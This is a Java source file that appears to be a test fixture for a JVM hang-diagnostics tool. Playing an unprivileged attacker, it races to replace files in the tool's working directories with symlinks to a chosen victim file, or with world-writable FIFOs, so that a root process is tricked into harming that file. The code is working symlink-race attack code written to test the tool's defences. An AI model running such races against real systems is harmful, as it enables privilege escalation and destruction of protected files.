package dev.hangscope.agent.dist.apps;

import java.io.IOException;
import java.nio.file.DirectoryIteratorException;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/**
 * Plays the user of a JVM that is reported on by root: changes what appears in a directory, as fast as it can, until
 * it is ended, for a
 * minute at most. Arguments: where its directories named hangscope lie, the file to make root harm, and what to do:
 * links, replace, fifos.
 */
public final class AttackerApp {
    private static final long MOST_NANOS = 60_000_000_000L;

    private static final List<String> NAMES = List.of(
            "reader.err",
            "code.txt",
            "heap.hprof",
            "before.json",
            "announcement.txt",
            "snapshot.json",
            "snapshot.json.part",
            "refusal.txt",
            "refusal.txt.part",
            "hangscope.jar",
            "lock");

    private AttackerApp() {}

    public static void main(String[] arguments) throws Exception {
        Path directory = Path.of(arguments[0]);
        Path victim = Path.of(arguments[1]);
        System.err.println("ready");
        long end = System.nanoTime() + MOST_NANOS;
        while (System.nanoTime() < end) {
            for (Path each : inside(directory, "hangscope*")) {
                attackIfAllowed(each, victim, arguments[2]);
                for (Path inner : inside(each, "*")) {
                    attackIfAllowed(inner, victim, arguments[2]);
                }
            }
        }
    }

    private static List<Path> inside(Path directory, String names) {
        List<Path> directories = new ArrayList<>();
        try (DirectoryStream<Path> all = Files.newDirectoryStream(directory, names)) {
            for (Path each : all) {
                if (Files.isDirectory(each, LinkOption.NOFOLLOW_LINKS) && Files.isWritable(each)) {
                    directories.add(each);
                }
            }
        } catch (IOException | DirectoryIteratorException gone) {
            Thread.onSpinWait();
        }
        return directories;
    }

    private static void attackIfAllowed(Path folder, Path victim, String way) throws InterruptedException {
        try {
            attack(folder, victim, way);
        } catch (IOException | DirectoryIteratorException gone) {
            Thread.onSpinWait();
        }
    }

    private static void attack(Path folder, Path victim, String way) throws IOException, InterruptedException {
        switch (way) {
            case "links" -> NAMES.forEach(name -> link(folder.resolve(name), victim));
            case "fifos" -> {
                List<String> line = new ArrayList<>(List.of("mkfifo", "-m", "666"));
                NAMES.forEach(name -> line.add(folder.resolve(name).toString()));
                new ProcessBuilder(line)
                        .redirectErrorStream(true)
                        .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                        .start()
                        .waitFor();
            }
            default -> {
                try (DirectoryStream<Path> all = Files.newDirectoryStream(folder)) {
                    for (Path each : all) {
                        if (!Files.isSymbolicLink(each)) {
                            Files.delete(each);
                            link(each, victim);
                        }
                    }
                }
            }
        }
    }

    private static void link(Path link, Path victim) {
        try {
            Files.createSymbolicLink(link, victim);
        } catch (IOException thereAlready) {
            Thread.onSpinWait();
        }
    }
}
